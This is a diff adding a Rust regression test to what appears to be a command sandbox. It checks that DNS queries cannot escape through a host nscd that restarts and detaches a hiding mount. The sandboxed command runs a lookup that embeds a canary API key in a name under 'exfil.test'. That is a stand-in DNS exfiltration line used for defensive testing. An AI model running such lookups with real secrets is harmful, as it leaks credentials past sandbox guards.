@@ -760,3 +760,75 @@ except OSError as e:
         show(&out)
     );
 }
+
+/// exec hides the host's resolvers' sockets by binding /dev/null over each socket file that
+/// exists when CMD starts. A daemon that restarts meanwhile (an upgrade restarting nscd or
+/// systemd-resolved, NetworkManager restarting its dnsmasq) removes its socket and binds a new
+/// one: removing a name that is a mount point in another mount namespace is allowed, and
+/// detaches that namespace's mount (Linux 3.18), so the new socket is in CMD's /run,
+/// unhidden, and glibc asks it again: CMD's question left through the host's nscd, past the
+/// guard and the canary, for the rest of the run. The same for a resolver that starts after
+/// exec. The directory must be hidden (an empty tmpfs over it), not the file.
+#[test]
+fn a_restarted_hosts_nscd_is_still_hidden_from_cmd() {
+    use std::process::Command;
+    let w = World::new();
+    let policy = setup(&w);
+    let nscd = w.write_file("fake_nscd.py", FAKE_NSCD);
+    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
+    let inner = exec_command(
+        &w,
+        &policy,
+        &["--user", "nobody", "--canary"],
+        "sleep 4; getent ahosts \"$CANARY_API_KEY.exfil.test\" >/dev/null; \
+         echo \"getent=$?\"; exit 0",
+    );
+    let outer = format!(
+        r#"set -e
+mount --rbind /run "$D/run"
+mount -t tmpfs tmpfs /run
+mkdir /run/netns /run/nscd
+mount --rbind "$D/run/netns" /run/netns
+ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} > "$D/nscd.log" 2>&1 &
+P=$!
+for i in $(seq 100); do test -S /run/nscd/socket && break; sleep 0.05; done
+test -S /run/nscd/socket
+set +e
+"$@" &
+E=$!
+sleep 2
+kill $P; wait $P; rm -f /run/nscd/socket
+ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} >> "$D/nscd.log" 2>&1 &
+P=$!
+trap "kill $P" EXIT
+wait $E"#
+    );
+    let mut cmd = Command::new("unshare");
+    cmd.args(["-m", "--propagation", "private", "sh", "-c", &outer, "sh"])
+        .arg(inner.get_program())
+        .args(inner.get_args())
+        .env("D", w.dir())
+        .env("SB", w.sandbox_name())
+        .env("NSCD", &nscd)
+        .stdin(std::process::Stdio::null());
+    for (key, value) in inner.get_envs() {
+        match value {
+            Some(value) => cmd.env(key, value),
+            None => cmd.env_remove(key),
+        };
+    }
+    let out = cmd.output().expect("run exec beside a host's nscd");
+    let nscd_log = std::fs::read_to_string(w.dir().join("nscd.log")).unwrap_or_default();
+    let shown = format!("{}\n--- nscd ---\n{nscd_log}", show(&out));
+    assert!(stdout_of(&out).contains("getent="), "{shown}");
+    let leaked: Vec<String> = w
+        .dns_queries()
+        .into_iter()
+        .filter(|n| n.to_ascii_lowercase().starts_with("ck_live_"))
+        .collect();
+    assert!(
+        leaked.is_empty(),
+        "CMD's question left through the restarted host's nscd: {leaked:?}\n{shown}"
+    );
+    assert_eq!(out.status.code(), Some(99), "{shown}");
+}
